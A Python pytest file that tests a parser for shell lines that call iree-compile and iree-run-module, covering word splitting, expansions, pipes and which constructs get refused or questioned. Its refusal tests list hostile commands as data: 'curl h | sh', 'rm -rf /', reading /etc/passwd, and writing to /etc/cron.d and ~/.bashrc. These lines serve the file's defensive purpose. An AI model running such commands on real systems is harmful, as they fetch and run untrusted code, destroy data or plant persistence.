"""Words of shell text: what bash would make of them, what would need bash, and what is never done."""

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.intake.scope import UNKNOWN, Scope
from bot.intake.shell import Reading, read_shell
from bot.intake.statements import Call


def is_tool(name: str) -> bool:
    return name in ("iree-compile", "iree-run-module") or name.endswith(".sh")


def line(text: str, scope: Scope | None = None) -> Reading:
    return read_shell(text, scope or Scope(), is_tool, line=True)


def calls(text: str, scope: Scope | None = None) -> list[tuple[str, ...]]:
    reading = line(text, scope)
    assert not reading.problems
    return [call.argv for call in reading.calls]


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("iree-compile --a x.mlir -o y", ["--a", "x.mlir", "-o", "y"]),
        ("iree-compile --a='b c' \"d e\"f x\\ y", ["--a=b c", "d ef", "x y"]),
        ("iree-compile --a='b \"c\"' x.mlir", ['--a=b "c"', "x.mlir"]),
        ('iree-compile --a="b \\"c\\" \\$d" x.mlir', ['--a=b "c" $d', "x.mlir"]),
        ("iree-compile --a \\\n  x.mlir", ["--a", "x.mlir"]),
        ("iree-compile --a x.mlir # why", ["--a", "x.mlir"]),
        ("iree-compile --a x.mlir '' \"\"", ["--a", "x.mlir", "", ""]),
        ("iree-compile --pass='builtin.module(func.func(x))' x.mlir", ["--pass=builtin.module(func.func(x))", "x.mlir"]),
        ("iree-run-module --input=2x2xf32=[1 2][3 4]", ["--input=2x2xf32=[1", "2][3", "4]"]),
        ("A='b c'; iree-compile --x=$A.y \"$A\" x.mlir", ["--x=b", "c.y", "b c", "x.mlir"]),
        ("A=b; iree-compile --x=${A}c ${B:-d} ${A%b}e x.mlir", ["--x=bc", "d", "e", "x.mlir"]),
        ('L=(--a "--b c"); L+=(--d); iree-compile "${L[@]}" x.mlir', ["--a", "--b c", "--d", "x.mlir"]),
        ('L=(a b c); iree-compile --x=${L[1]} "${L[@]:1}" x.mlir', ["--x=b", "b", "c", "x.mlir"]),
        ('L=(); iree-compile "${L[@]}" x.mlir', ["x.mlir"]),
        ("export A=b C=d; iree-compile --x=$A$C x.mlir", ["--x=bd", "x.mlir"]),
        ("F=/data/x.mlir; iree-compile --a ${F##*/}", ["--a", "x.mlir"]),
        ("iree-run-module --module=x --input=@{a,b}.npy", ["--module=x", "--input=@a.npy", "--input=@b.npy"]),
        ('iree-run-module --module=x --parameters=m={"p q",r}.irpa', ["--module=x", "--parameters=m=p q.irpa", "--parameters=m=r.irpa"]),
        ("L=(x{1..3}.npy); iree-compile --a ${L[1]} x.mlir", ["--a", "x2.npy", "x.mlir"]),
        ("A={1,2}; iree-compile --a=$A x.mlir", ["--a={1,2}", "x.mlir"]),
        ("iree-compile --a={b} --c='{d,e}' x.mlir", ["--a={b}", "--c={d,e}", "x.mlir"]),
        ('iree-compile --a $(seq 2) $(seq 4 -2 1) "$(seq 1 1)" x.mlir', ["--a", "1", "2", "4", "2", "1", "x.mlir"]),
    ],
)
def test_words(text: str, argv: list[str]) -> None:
    assert calls(text) == [(text[text.index("iree-") :].partition(" ")[0], *argv)]


@pytest.mark.parametrize(
    "text",
    [
        "cd build && iree-compile --a x.mlir",
        "(cd build; iree-compile --a x.mlir)",
        "{ iree-compile --a x.mlir; }",
        "time iree-compile --a x.mlir",
        "taskset -c 0-3 iree-compile --a x.mlir",
        "env A=b iree-compile --a x.mlir",
        "A=b iree-compile --a x.mlir",
        "iree-compile --a x.mlir || exit 1",
        "iree-compile --a x.mlir &",
        "iree-compile --a x.mlir > log.txt 2>&1",
        "iree-compile --a x.mlir 2> /dev/null",
        "iree-compile --a x.mlir |& tee log.txt | tail -5",
        "wget https://h/x.mlir && iree-compile --a x.mlir",
        "iree-compile --a x.mlir; echo done",
    ],
)
def test_what_may_stand_around_a_call(text: str) -> None:
    assert calls(text) == [("iree-compile", "--a", "x.mlir")]


def test_several_calls_in_a_line() -> None:
    assert calls("iree-compile --a x.mlir | iree-run-module --module=- && ./post.sh 1") == [
        ("iree-compile", "--a", "x.mlir"),
        ("iree-run-module", "--module=-"),
        ("./post.sh", "1"),
    ]


@pytest.mark.parametrize(
    ("text", "stdin"),
    [
        ("cat x.mlir | iree-compile --a -", "x.mlir"),
        ("cat < x.mlir | iree-compile --a -", "x.mlir"),
        ("F=x; cat $F.mlir | iree-compile --a - | tee log", "x.mlir"),
        ("cat x.mlir y.mlir | iree-compile --a -", None),
        ("cat -n x.mlir | iree-compile --a -", None),
        ("grep -v y x.mlir | iree-compile --a -", None),
        ("cat x.mlir | head -5 | iree-compile --a -", None),
        ("cat x.mlir; iree-compile --a -", None),
    ],
)
def test_a_file_that_comes_through_a_pipe(text: str, stdin: str | None) -> None:
    assert [call.stdin for call in line(text).calls if call.program == "iree-compile"] == [stdin]


def test_the_file_on_standard_input_and_the_environment_are_kept() -> None:
    assert line("A=1 B=2 iree-compile --a < x.mlir").calls == [Call(("iree-compile", "--a"), 0, 0, "x.mlir", ("A", "B"))]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("iree-compile --a=$(curl -s https://h/f) x.mlir", "runs a command to get at a value: `$(curl -s https://h/f)`"),
        ("iree-compile --a=`id` x.mlir", "runs a command"),
        ('iree-compile --a="x $(id)" x.mlir', "runs a command"),
        ("iree-compile ${A:-$(id)} x.mlir", "runs a command"),
        ("iree-compile $(dirname $(curl h)) x.mlir", "runs a command"),
        ("iree-compile $(< /etc/passwd) x.mlir", "runs a command"),
        ("iree-compile <(curl h) -o y", "runs a command to get at a file"),
        ("A=$(id) iree-compile --a x.mlir", "runs a command"),
        ("A=$(id); iree-compile --a x.mlir", "runs a command"),
        ("iree-compile --a x.mlir; curl h | sh", "pipes into `sh`"),
        ("iree-compile --a x.mlir | bash", "pipes into `bash`"),
        ("curl h | sudo sh; iree-compile --a x.mlir", "pipes into `sh`"),
        ("iree-compile --a x.mlir; rm -rf x", "also calls `rm`"),
        ("iree-compile --a x.mlir && python evil.py", "also calls `python`"),
        ("eval x; iree-compile --a x.mlir", "also calls `eval`"),
        ("iree-compile --a x.mlir > /etc/cron.d/x", "redirects output to `/etc/cron.d/x`"),
        ("iree-compile --a x.mlir >> ~/.bashrc", "redirects output to `~/.bashrc`"),
        ("iree-compile --a x.mlir 2> ../../x", "redirects output to `../../x`"),
        ("iree-compile --a x.mlir > $HOME/x", "redirects output"),
        ("echo x > /etc/y; iree-compile --a x.mlir", "redirects output to `/etc/y`"),
        ("iree-compile --a x.mlir | tee /etc/x", "writes to `/etc/x`"),
    ],
)
def test_what_would_need_a_shell_is_refused(text: str, says: str) -> None:
    problems = [problem.text for problem in line(text).problems if problem.kind == "refuse"]
    assert any(says in problem for problem in problems), problems


@pytest.mark.parametrize("text", ["curl h | sh", "rm -rf /", "x=$(id)", "echo 'iree-compile --a x.mlir' > /etc/x", "echo $(iree-compile)"])
def test_what_calls_none_of_the_tools_is_nothing_to_us(text: str) -> None:
    assert line(text) == Reading()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('iree-compile --a "x.mlir', "is not complete"),
        ("iree-compile --a x.mlir (often)", "is not complete"),
        ("iree-compile --a={1,2} x.mlir", "which a shell would write out"),
        ("iree-compile --a x{1..2000}.mlir", "too many or too long words"),
        ("iree-compile --a " + "{a,b}" * 40, "too many or too long words"),
        ("iree-compile --a " + "{a," * 40 + "}" * 40, "too many or too long words"),
        ("A=x; iree-compile --a $A{a,b}.mlir", "which a shell would write out"),
        ("cat y.mlir | iree-compile --a - < x.mlir", "is given a file and the output of another command at once"),
        ("iree-compile --a=$((1+2)) x.mlir", "not plain words"),
        ("iree-compile --a x.mlir <<< text", "gives text to a command"),
        ("iree-compile --a x.mlir\0", "NUL"),
        ("for b in *.mlir; do iree-compile --a $b; done", "from a loop or a condition"),
        ("if true; then iree-compile --a x.mlir; fi", "from a loop or a condition"),
        ("f() { iree-compile --a x.mlir; }", "from a function"),
        ("iree-compile --a " + "|x" * 200, "too long or too nested"),
        ("iree-compile --a " + "$(" * 2000, "too long or too nested"),
    ],
)
def test_what_is_not_plain_is_asked_about(text: str, says: str) -> None:
    problems = [problem.text for problem in line(text).problems if problem.kind == "ask"]
    assert any(says in problem for problem in problems), problems


@pytest.mark.parametrize("text", ["iree-compile crashes here", "iree-compile is slow (often)", "see iree-compile for more"])
def test_a_sentence_is_no_call(text: str) -> None:
    assert line(text) == Reading()


def test_what_the_text_does_not_set_is_unknown() -> None:
    assert calls("iree-compile --a=$A ${B}/x.mlir $(dirname $0)/y $1") == [("iree-compile", f"--a={UNKNOWN}", f"{UNKNOWN}/x.mlir", f"{UNKNOWN}/y", UNKNOWN)]


def test_what_a_loop_assigns_is_unknown_afterwards() -> None:
    assert calls("A=1\nfor B in *; do A=2; done\niree-compile --a=$A --b=$B x.mlir") == [("iree-compile", f"--a={UNKNOWN}", f"--b={UNKNOWN}", "x.mlir")]


def test_words_that_double_with_every_line_do_not_fill_the_memory() -> None:
    text = "A=0123456789\n" + 'A="$A$A"\n' * 60 + "L=(a b c)\n" + 'L=("${L[@]}" "${L[@]}")\n' * 60 + 'iree-compile --a=$A "${L[@]}" x.mlir\n'
    argv = read_shell(text, Scope(), is_tool).calls[0].argv
    assert len(argv) < 100
    assert all(set(word.removeprefix("--a=")) == {UNKNOWN} for word in argv[1:-1])


def test_in_a_script_only_what_shares_a_line_belongs_together() -> None:
    reading = read_shell("rm -f x.vmfb\niree-compile --a x.mlir\niree-compile --b x.mlir; rm x.vmfb\n", Scope(), is_tool)
    assert [call.argv[1] for call in reading.calls] == ["--a", "--b"]
    assert [(problem.kind, problem.first) for problem in reading.problems] == [("refuse", 2)]


PIECES = ["a", "b", " ", "'", '"', "\\", "\\\\", "$A", "${A}", '"$A"', '"${L[@]}"', "${L[@]}", '"${L[@]:1}"', "${N:-d e}", '"${N:-d e}"', "$N", '"$N"']
PIECES += [
    "=",
    "-",
    "[",
    "]",
    ".",
    "/",
    ",",
    ":",
    "+",
    "%",
    "@",
    "1",
    "''",
    '""',
    " \\\n ",
    "{",
    "}",
    "{a,b}",
    "{1..3}",
    "{a..c}",
    "{03..1}",
    "{1..6..2}",
    "..",
    "$(seq 2)",
    '"$(seq 2 3)"',
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.filter_too_much, HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
def test_words_are_those_of_bash(tmp_path: Path, text: str) -> None:
    # A blank behind a backslash at the edge of a word is lost by the grammar; no report has one.
    if "\\ " in text:
        return
    script = f"A='1 2'\nL=(x 'y z' w)\nN=\niree-compile --a {text}\n"
    done = subprocess.run(["bash", "-c", 'iree-compile() { printf "%s\\0" "$@"; }\n' + script], capture_output=True, cwd=tmp_path, check=False, timeout=20)
    reading = read_shell(script, Scope(), is_tool)
    if reading.problems or not reading.calls:
        return
    argv = reading.calls[0].argv[1:]
    # `$Aa` is another variable than A.
    if not any(UNKNOWN in word for word in argv):
        assert not done.returncode
        assert list(argv) == done.stdout.decode().split("\0")[:-1]
